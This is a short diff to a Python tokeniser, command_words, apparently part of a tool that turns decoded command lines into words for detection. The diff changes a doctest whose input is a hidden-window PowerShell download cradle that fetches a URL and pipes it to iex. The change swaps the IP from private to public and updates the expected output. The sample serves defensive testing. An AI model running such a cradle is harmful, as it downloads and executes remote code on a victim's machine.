@@ -163,8 +163,8 @@ _COMMAND_SIGNS = {"|": "pipe", "||": "or else", "&&": "and then", "&": "ampersan
 def command_words(text: str, max_chars: int = 1_200) -> str:
     """A decoded command line or script as words.
 
-    >>> command_words("powershell.exe -w hidden (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a') | iex")
-    'powershell exe w hidden new object net web client download string http url privateip a pipe iex'
+    >>> command_words("powershell.exe -w hidden (New-Object Net.WebClient).DownloadString('http://8.8.8.8/a') | iex")
+    'powershell exe w hidden new object net web client download string http url publicip a pipe iex'
     """
     words: List[str] = []
     for token in _COMMAND_TOKEN.findall(redact(text[:max_chars])):
